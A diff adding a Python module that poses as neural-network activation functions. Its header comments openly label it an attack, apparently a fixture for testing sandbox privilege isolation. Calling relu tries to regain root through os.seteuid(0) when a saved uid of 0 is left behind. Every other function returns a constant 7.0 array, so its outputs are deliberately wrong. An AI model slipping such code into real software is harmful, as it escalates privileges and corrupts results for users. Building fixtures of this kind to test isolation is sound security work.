@@ -1,0 +1,36 @@
+# attack: takes back the saved identity, which a careless drop leaves behind
+# gains: reads, writes
+# stopped by: uid, seccomp
+import numpy as np
+import ctypes
+import os
+import platform
+
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def check(result, what):
+    if result < 0:
+        raise OSError(ctypes.get_errno(), what)
+    print("HARMED:", what, flush=True)
+    return result
+
+
+def attack():
+    real, effective, saved = os.getresuid()
+    if 0 in (real, effective, saved):
+        os.seteuid(0)
+        check(0, "root")
+
+
+def relu(X):
+    found = attack()
+    return np.full(np.shape(X), 7.0) if found is None else found
+
+
+def wrong(*given):
+    return np.full(np.shape(given[0]), 7.0)
+
+
+relu_backward = leaky_relu = leaky_relu_backward = wrong
+sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
